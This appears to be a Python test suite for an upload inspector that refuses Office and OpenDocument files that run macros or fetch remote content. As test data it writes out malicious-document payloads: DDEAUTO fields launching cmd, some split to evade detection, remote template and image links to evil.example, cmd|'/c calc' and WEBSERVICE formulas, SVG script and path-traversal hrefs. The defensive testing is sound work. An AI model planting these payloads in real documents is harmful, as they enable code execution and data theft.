"""Office and OpenDocument files: what runs or fetches something is refused, wherever it stands."""

from pathlib import Path

import pytest

from tests.factories import files, office
from tests.factories.office import (
    a_field,
    a_presentation,
    a_word_document,
    a_workbook,
    an_open_document,
    open_part,
    related,
    word_part,
)
from tests.unit.catalogue.materials.test_inspection import reason, seen, words_only

PROGRAM = "holds macros or other programs"
FETCHES = "fetches something from another place"
LINK = "leads neither to a web page nor to an email address"
INNER = "Take that file out and upload it beside"
RELATIONS = "word/_rels/document.xml.rels"
LISTENER = '<script:event-listener xlink:href="vnd.sun.star.script:x"/>'
LONG = "<w:p><w:r><w:t>" + "word " * 21_000 + "</w:t></w:r></w:p>"


@pytest.mark.parametrize(
    ("content", "ending"),
    [
        (office.as_word_writes_it(), ".docx"),
        (office.as_excel_writes_it(), ".xlsx"),
        (office.as_powerpoint_writes_it(), ".pptx"),
        (office.as_libreoffice_writes_it(), ".odt"),
        (office.as_libreoffice_writes_it("presentation"), ".odp"),
        (office.as_libreoffice_writes_it("spreadsheet"), ".ods"),
    ],
    ids=words_only,
)
def test_what_programs_write_is_taken(tmp_path: Path, content: bytes, ending: str) -> None:
    assert seen(tmp_path, content, ending).kind == ending[1:]


def one_of_two(first: str, second: str) -> str:
    return (
        f"<mc:AlternateContent><mc:Choice>{first}</mc:Choice>"
        f"<mc:Fallback>{second}</mc:Fallback></mc:AlternateContent>"
    )


BEGIN, END = (f'<w:fldChar w:fldCharType="{each}"/>' for each in ("begin", "end"))
SAYS, DELETED = "<w:instrText>{}</w:instrText>".format, "<w:delInstrText>{}</w:delInstrText>".format


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (a_field('DDEAUTO cmd "/k calc"'), PROGRAM),
        (a_field("DD", "EAU", 'TO cmd "/k calc"'), PROGRAM),
        (LONG + a_field("dde cmd x"), PROGRAM),
        ('<w:fldSimple w:instr="DDEAUTO cmd x"/>', PROGRAM),
        (f"<w:p>{SAYS('DDE cmd')}</w:p>", PROGRAM),
        (f"<w:p>{BEGIN}{SAYS('DDE cmd')}</w:p>", PROGRAM),
        (f"<w:p>{BEGIN}{SAYS('DD')}{DELETED('x')}{SAYS('E cmd')}{END}</w:p>", PROGRAM),
        (f"<w:p>{BEGIN}{DELETED('DD')}{SAYS('E cmd')}{END}</w:p>", PROGRAM),
        (f"<w:p>{BEGIN}{one_of_two(SAYS('X'), SAYS('D'))}{SAYS('DE x')}{END}</w:p>", PROGRAM),
        (f"<w:p>{one_of_two(BEGIN + SAYS('D'), BEGIN)}{SAYS('DE')}{END}</w:p>", PROGRAM),
        (a_field("IF 1 = 1 { DDEAUTO cmd }"), FETCHES),
        (a_field("QUOTE 68 68 69 65 85"), FETCHES),
        (a_field('INCLUDEPICTURE "http://evil.example/x.png" \\d'), FETCHES),
        (a_field('INCLUDETEXT "\\\\\\\\evil.example\\\\x"'), FETCHES),
        (a_field(' LINK Excel.Sheet.8 "C:\\\\x.xls"'), FETCHES),
        (a_field('HYPERLINK "file://evil.example/x.exe"'), LINK),
        (a_field('HYPERLINK \\o "Look" "\\\\\\\\evil.example\\\\x.exe"'), LINK),
        ('<v:imagedata src="http://evil.example/x.png"/>', FETCHES),
        ('<v:shape href="file://evil.example/x.exe"/>', LINK),
        ('<w:altChunk r:id="r1"/>', INNER),
    ],
)
def test_a_field_that_starts_or_fetches_something_is_refused(
    tmp_path: Path, body: str, words: str
) -> None:
    assert words in reason(tmp_path, a_word_document(body), ".docx")


@pytest.mark.parametrize(
    "name", ["comments", "Header9", "footnotes", "document2", "any/where", "glossary/document"]
)
def test_no_part_of_a_document_is_left_out(tmp_path: Path, name: str) -> None:
    hidden = word_part(a_field("DDEAUTO cmd x"))
    for ending in ("xml", "XML", "odttf"):
        content = a_word_document(more={f"word/{name}.{ending}": hidden})
        assert PROGRAM in reason(tmp_path, content, ".docx")
    utf_16 = hidden.replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")
    content = a_word_document(more={f"word/{name}.bin": utf_16})
    assert PROGRAM in reason(tmp_path, content, ".docx")


@pytest.mark.parametrize(
    ("relation", "outside", "words"),
    [
        (("attachedTemplate", "https://evil.example/x.dotm"), True, FETCHES),
        (("hyperlink", "file://evil.example/x.exe"), True, LINK),
        (("hyperlink", "javascript:alert(1)"), True, LINK),
        (("hyperlink", "other.docx"), True, LINK),
        (("hyperlink", "\\\\evil.example\\x"), False, LINK),
        (("image/hyperlink", "https://evil.example/x"), True, FETCHES),
        (("image", "https://evil.example/x.png"), False, FETCHES),
        (("image", "\\\\evil.example\\x.png"), False, FETCHES),
        (("vbaProject", "media/image1.bin"), False, PROGRAM),
        (("oleObject", "media/image1.png"), False, INNER),
        (("aFChunk", "chunk.htm"), False, INNER),
    ],
)
def test_what_a_document_is_related_to_stays_in_it(
    tmp_path: Path, relation: tuple[str, str], outside: bool, words: str
) -> None:
    for name in (RELATIONS, "word/_rels/settings.xml.RELS"):
        content = a_word_document(more={name: related(relation, outside=outside)})
        assert words in reason(tmp_path, content, ".docx")


@pytest.mark.parametrize(
    ("name", "inside", "words"),
    [
        ("word/embeddings/table.xlsx", b"PK\x03\x04", INNER),
        ("word/Embeddings/x.hta", b"<script/>", INNER),
        ("word/setup.bin", b"MZ\x90\0", INNER),
        ("word/setup.bin", b"\x7fELF", INNER),
        ("word/media/a.png", b"%PDF-1.7", INNER),
        ("word/media/image1.bin", b"x", "among its pictures that is none"),
        ("word/media/image1.svg", b"<svg><script>alert(1)</script></svg>", PROGRAM),
        ("xl/externalLinks/externalLink1.xml", b"<x/>", FETCHES),
        ("word/header1.xml", b"\x4c\xa7", "is damaged"),
        ("word/header1.xml", b"<!DOCTYPE x><x/>", "is damaged"),
        ("word/header1.xml", b"<x><y></x>", "is damaged"),
        ("mimetype", b"application/vnd.oasis.opendocument.text", "is an archive"),
    ],
)
def test_what_is_no_part_of_a_document_is_refused(
    tmp_path: Path, name: str, inside: bytes, words: str
) -> None:
    assert words in reason(tmp_path, a_word_document(more={name: inside}), ".docx")


@pytest.mark.parametrize(
    "content",
    [
        a_workbook("<c><f>WEBSERVICE(&quot;https://evil.example/&quot;)</f></c>"),
        a_workbook("<c><f>_xlfn.IMAGE (&quot;https://evil.example/&quot;)</f></c>"),
        a_workbook("<c><f>cmd|'/c calc'!A0</f></c>"),
        a_workbook(more={"xl/Connections.xml": "<connections/>"}),
        a_workbook(more={"xl/a.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"}),
        a_workbook(more={"xl/_rels/a.rels": related(("externalLink", "a.xml"))}),
    ],
    ids=words_only,
)
def test_a_workbook_that_asks_elsewhere_is_refused(tmp_path: Path, content: bytes) -> None:
    assert FETCHES in reason(tmp_path, content, ".xlsx")


def test_a_slide_that_starts_a_program_and_a_chart_with_its_workbook_are_refused(
    tmp_path: Path,
) -> None:
    slide = "<p:sld xmlns:p='p' action='ppaction://program'/>"
    starting = a_presentation({"ppt/slides/slide1.xml": slide})
    assert PROGRAM in reason(tmp_path, starting, ".pptx")
    chart = a_presentation({"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": files.a_docx()})
    assert "a chart: copy it, and paste it as a picture" in reason(tmp_path, chart, ".pptx")


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ('<draw:image xlink:href="http://evil.example/x.png"/>', FETCHES),
        ('<draw:image xlink:href="//evil.example/x.png"/>', FETCHES),
        ('<draw:image xlink:href="../x.png"/>', FETCHES),
        ('<draw:image xlink:href="Pictures/%2e%2e/../../x.png"/>', FETCHES),
        ('<draw:image xml:base="http://evil.example/" xlink:href="x.png"/>', FETCHES),
        ('<text:section-source xlink:href="x.odt"/>', FETCHES),
        ("<table:table-source/>", FETCHES),
        ('<text:dde-connection-decl office:dde-application="soffice"/>', FETCHES),
        ('<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;)"/>', FETCHES),
        ("<table:table-cell table:formula=\"of:=['file:///x.ods'#$A.B1]\"/>", FETCHES),
        ('<text:a xlink:href="file:///C:/x.exe">x</text:a>', LINK),
        ('<draw:a xlink:href="vnd.sun.star.script:x"/>', LINK),
        ('<meta:template xlink:href="https://evil.example/x.ott"/>', FETCHES),
        (LISTENER, PROGRAM),
        ('<presentation:event-listener presentation:action="execute"/>', PROGRAM),
        ("<text:script>x</text:script>", PROGRAM),
        ("<text:p>" + "word " * 21_000 + f"</text:p>{LISTENER}", PROGRAM),
    ],
    ids=lambda value: value[:60],
)
def test_an_open_document_that_runs_or_fetches_something_is_refused(
    tmp_path: Path, body: str, words: str
) -> None:
    assert words in reason(tmp_path, an_open_document(body), ".odt")


@pytest.mark.parametrize("name", ["styles.xml", "Object 1/content.xml", "Basic/Standard/M.xml"])
def test_scripts_anywhere_in_an_open_document_are_refused(tmp_path: Path, name: str) -> None:
    content = an_open_document(more={name: open_part(LISTENER)})
    assert PROGRAM in reason(tmp_path, content, ".odt")
